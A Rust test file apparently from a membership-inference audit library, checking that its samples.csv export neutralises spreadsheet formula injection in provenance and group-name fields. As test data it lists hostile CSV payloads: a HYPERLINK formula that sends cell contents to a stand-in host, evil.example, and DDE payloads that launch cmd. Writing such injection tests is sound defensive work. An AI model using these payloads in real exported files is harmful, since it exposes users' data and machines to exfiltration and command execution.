//! `samples.csv` opened in a spreadsheet runs nothing: provenance (user text from the pool's
//! files) that a spreadsheet would take for a formula is neutralised, numbers stay numbers
//! (issue 23, item 8).

use memia_attacks::evaluation::EvalGroup;
use memia_core::{KeepMatrix, Logits};
use memia_report::{Audit, AuditConfig, AuditInputs};
use ndarray::Array4;

/// The fields of one CSV line (RFC 4180 quoting).
fn fields(line: &str) -> Vec<String> {
    let (mut out, mut cell, mut quoted, mut chars) =
        (Vec::new(), String::new(), false, line.chars().peekable());
    while let Some(c) = chars.next() {
        match (c, quoted) {
            ('"', true) if chars.peek() == Some(&'"') => {
                cell.push('"');
                chars.next();
            }
            ('"', _) => quoted = !quoted,
            (',', false) => out.push(std::mem::take(&mut cell)),
            _ => cell.push(c),
        }
    }
    out.push(cell);
    out
}

#[test]
fn provenance_formulas_are_neutralised_in_samples_csv() {
    let (k, n) = (8, 60);
    let keep = KeepMatrix::balanced(k, n, 1).unwrap();
    // Right on what a model trained on and on every third other sample; samples 0..6 are
    // right only when out, so that some memorization is negative.
    let logits = Logits::new(Array4::from_shape_fn((k, n, 1, 2), |(m, i, _, c)| {
        let right = if i < 6 {
            !keep.get(m, i)
        } else {
            keep.get(m, i) || i % 3 == 0
        };
        if (c == 0) == right {
            2.0 + (m + i) as f32 * 0.01
        } else {
            0.0
        }
    }))
    .unwrap();
    let labels = vec![0u32; n];
    let hostile = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ];
    let provenance: Vec<String> = (0..n)
        .map(|i| {
            hostile
                .get(i)
                .map_or_else(|| format!("pool:{i}"), |h| h.to_string())
        })
        .collect();
    // A group's name is user text too (a run's pool.json, an import's --groups file).
    let groups = [
        EvalGroup {
            name: "=1+1".into(),
            samples: vec![0, 9],
        },
        EvalGroup {
            name: "canaries".into(),
            samples: vec![9],
        },
    ];
    let audit = Audit::run(
        AuditInputs::new(&keep, &logits, &labels)
            .with_provenance(&provenance)
            .with_groups(&groups),
        &AuditConfig {
            curve_targets: 2,
            ..Default::default()
        },
        |_, _, _| {},
    )
    .unwrap();
    let csv = audit.samples_csv();
    let mut lines = Vec::new();
    // A field quoted over a carriage return spans no line break here (\r alone is inside it).
    for line in csv.split('\n').filter(|l| !l.is_empty()) {
        lines.push(fields(line));
    }
    assert_eq!(lines.len(), n + 1);
    assert_eq!(lines[0][2], "provenance");
    for (i, h) in hostile.iter().enumerate() {
        let row = &lines[i + 1];
        assert_eq!(row.len(), 10, "{row:?}");
        assert_eq!(row[2], format!("'{h}"), "sample {i}: {row:?}");
    }
    assert_eq!(lines[10][2], "pool:9");
    // Each sample's groups, by name, neutralised like the provenance.
    assert_eq!(lines[0][9], "groups");
    assert_eq!(lines[1][9], "'=1+1");
    assert_eq!(lines[10][9], "'=1+1;canaries");
    assert_eq!(lines[2][9], "");
    // Numbers are written as numbers, negative ones included (no quote mark before a minus).
    let mem: Vec<f64> = lines[1..]
        .iter()
        .filter(|r| !r[3].is_empty())
        .map(|r| r[3].parse().unwrap_or_else(|_| panic!("{r:?}")))
        .collect();
    assert!(mem.iter().any(|&m| m < 0.0), "{mem:?}");
}
